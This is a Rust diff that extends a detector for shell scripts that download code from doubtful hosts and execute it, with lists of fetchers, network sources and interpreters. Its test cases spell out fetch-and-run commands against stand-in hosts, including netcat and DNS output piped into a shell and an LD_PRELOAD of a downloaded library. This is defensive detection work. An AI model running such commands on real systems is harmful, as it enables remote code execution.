@@ -28,11 +28,107 @@ const FETCHERS: &[(&str, &[&str])] = &[
     ("certutil", &[]),
     ("Invoke-WebRequest", &["-OutFile", "-o"]),
     ("iwr", &["-OutFile", "-o"]),
+    ("Invoke-RestMethod", &["-OutFile", "-o"]),
+    ("irm", &["-OutFile", "-o"]),
+    ("Start-BitsTransfer", &["-Destination"]),
+    ("ncat", &[]),
+    ("sftp", &[]),
+    ("rsync", &[]),
+    ("git", &[]),
+    ("http", &["-o", "--output"]),
+    ("smbget", &["-o"]),
+];
+
+/// Programs beside those for the web that bring a text from another machine to the pipe.
+const SOURCES: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "dig",
+    "host",
+    "nslookup",
+    "drill",
+    "telnet",
+    "socat",
+    "tftp",
+    "ftp",
+    "ftpget",
+    "lwp-request",
+    "GET",
+    "aria2c",
+    "lynx",
+    "links",
+    "w3m",
+    "fetch",
+    "http",
+    "xh",
+    "axel",
+    "smbget",
+    "openssl",
 ];
 
 const INTERPRETERS: &[&str] = &[
-    "sh", "bash", "dash", "ash", "zsh", "ksh", "perl", "python", "python2", "python3", "php", "ruby", "node", ".",
-    "source", "nohup", "start",
+    "sh",
+    "bash",
+    "dash",
+    "ash",
+    "zsh",
+    "ksh",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "php",
+    "ruby",
+    "node",
+    ".",
+    "source",
+    "nohup",
+    "start",
+    "setsid",
+    "exec",
+    "sudo",
+    "java",
+    "wine",
+    "insmod",
+    "crontab",
+    "pwsh",
+    "powershell",
+    "Start-Process",
+    "saps",
+    "&",
+    "lua",
+    "bash.exe",
+    "cmd",
+    "rundll32",
+    "regsvr32",
+    "msiexec",
+    "mono",
+    "dotnet",
+    "python.exe",
+    "wscript",
+    "cscript",
+];
+
+/// Run what they read.
+const READERS: &[&str] = &[
+    "sh",
+    "bash",
+    "dash",
+    "ash",
+    "zsh",
+    "ksh",
+    "perl",
+    "python",
+    "python2",
+    "python3",
+    "php",
+    "ruby",
+    "node",
+    "iex",
+    "Invoke-Expression",
+    "pwsh",
+    "powershell",
 ];
 
 /// What a project's own sources are built with, once they are fetched and unpacked.
@@ -55,11 +151,11 @@ const FILES: usize = 16;
 /// Where a file runs that was fetched before from a place that says nothing of its origin: an address, plain HTTP, FTP, a
 /// bare host.
 pub(super) fn find(view: &str) -> Option<Range<usize>> {
+    if let Some(range) = piped(view) {
+        return Some(range);
+    }
     // Nothing fetched, nothing run.
-    if !["wget", "curl", "ftp", "fetch", "aria2c", "axel", "lwp-", "scp ", "iwr ", "nvoke-WebR", "links ", "lynx "]
-        .iter()
-        .any(|name| memmem::find(view.as_bytes(), name.as_bytes()).is_some())
-    {
+    if !lines(view).any(|line| FETCHERS.iter().any(|(fetcher, _)| *fetcher == base(line.program))) {
         return None;
     }
     let mut files: Vec<&str> = Vec::new();
@@ -68,7 +164,8 @@ pub(super) fn find(view: &str) -> Option<Range<usize>> {
         if let Some(file) = run(&line) {
             let name = base(file);
             let unpacked = packed && (file.starts_with("./") || file.starts_with("/tmp/")) && !BUILDS.contains(&name);
-            if files.contains(&name) || unpacked {
+            let within = file.split('/').any(|segment| !segment.is_empty() && files.contains(&segment));
+            if files.contains(&name) || within || unpacked {
                 return Some(line.range);
             }
         }
@@ -92,6 +189,28 @@ pub(super) fn find(view: &str) -> Option<Range<usize>> {
     None
 }
 
+/// Where an interpreter reads what a program brings from the network, filters between them or not.
+fn piped(view: &str) -> Option<Range<usize>> {
+    memmem::find(view.as_bytes(), b"\n| ")?;
+    let mut foreign = false;
+    lines(view).find_map(|line| {
+        let is_piped = view.get(line.range.clone()).is_some_and(|text| text.starts_with("| "));
+        let name = base(line.program);
+        if !is_piped {
+            foreign = SOURCES.contains(&name)
+                && (name != "openssl" || line.arguments.contains("s_client"))
+                && !line.arguments.contains("localhost");
+            return None;
+        }
+        let reads_script = READERS.contains(&name)
+            && line
+                .arguments
+                .split(' ')
+                .all(|word| word.is_empty() || word.starts_with(['-', '>', '<']) || word.starts_with("2>"));
+        (foreign && reads_script && !line.arguments.contains("-c")).then_some(line.range)
+    })
+}
+
 /// The files that a line fetches from a doubtful place.
 fn fetched<'v>(line: &Line<'v>) -> Vec<&'v str> {
     let name = base(line.program);
@@ -100,7 +219,10 @@ fn fetched<'v>(line: &Line<'v>) -> Vec<&'v str> {
         return Vec::new();
     }
     let mut files = Vec::new();
-    let mut doubtful = matches!(name, "tftp" | "ftpget" | "ftp");
+    let mut doubtful = matches!(name, "tftp" | "ftpget" | "ftp" | "nc" | "ncat");
+    if name == "git" && !line.arguments.starts_with("clone ") {
+        return Vec::new();
+    }
     let mut previous = "";
     for word in line.arguments.split(' ') {
         if options.contains(&previous) || previous == ">" {
@@ -112,12 +234,15 @@ fn fetched<'v>(line: &Line<'v>) -> Vec<&'v str> {
         {
             files.push(base(file));
         } else if is_address(word) {
-            doubtful |= is_doubtful(word);
+            // A repository comes over ssh as often as not.
+            doubtful |= is_doubtful(word) && (!matches!(name, "git" | "rsync") || word.starts_with("http"));
             let file = base(word.split(['?', '#']).next().unwrap_or(word));
             if !file.is_empty() {
                 files.push(file);
             }
-        } else if matches!(name, "ftpget" | "tftp" | "lwp-download") && !word.starts_with('-') {
+        } else if matches!(name, "ftpget" | "tftp" | "lwp-download" | "git" | "scp" | "smbget")
+            && !word.starts_with('-')
+        {
             files.push(base(word));
         }
         previous = word;
@@ -154,6 +279,16 @@ fn run<'v>(line: &Line<'v>) -> Option<&'v str> {
     if line.program.starts_with("./") || line.program.starts_with('/') {
         return Some(line.program);
     }
+    // A library that every program loads, a program of Windows by its path.
+    if let Some((_, library)) = line.program.split_once("LD_PRELOAD=") {
+        return Some(library);
+    }
+    if line.program.as_bytes().get(1) == Some(&b':')
+        || line.program.starts_with("$env:")
+        || line.program.starts_with('%')
+    {
+        return Some(line.program);
+    }
     if INTERPRETERS.contains(&line.program) {
         return line.arguments.split(' ').find(|word| !word.starts_with(['-', '>', '<']) && !word.is_empty());
     }
@@ -174,6 +309,11 @@ mod tests {
             "curl http://bad.example/p >/tmp/p\nperl /tmp/p",
             "wget -q http://bad.example/k.tgz\ntar xzf k.tgz\ncd .k\n./run",
             "wget bad.example/m\nmv m n\n./n",
+            "nc 203.0.113.7 80 >/tmp/m\nchmod +x /tmp/m\n/tmp/m",
+            "dig +short txt x.example\n| tr -d x\n| base64 -d\n| bash",
+            "nc 203.0.113.7 80\n| sh",
+            "curl http://bad.example/x.so -o /tmp/x.so\nLD_PRELOAD=/tmp/x.so\nls",
+            "git clone http://203.0.113.7/m.git /tmp/m\nsh /tmp/m",
         ] {
             assert!(find(view).is_some(), "{view}");
         }
@@ -187,6 +327,10 @@ mod tests {
             "curl -s http://localhost:3000/health\nbash deploy.sh",
             "curl -o data.json http://api.example/data\npython analyse.py data.json",
             "wget https://example.com/data.csv\n./plot",
+            "nc -z db 5432\nbash deploy.sh",
+            "dig example.com\n| python3 parse.py",
+            "git clone https://github.com/a/b\nsh install.sh",
+            "git clone git@git.example:a/b.git\n./b/install.sh",
         ] {
             assert!(find(view).is_none(), "{view}");
         }
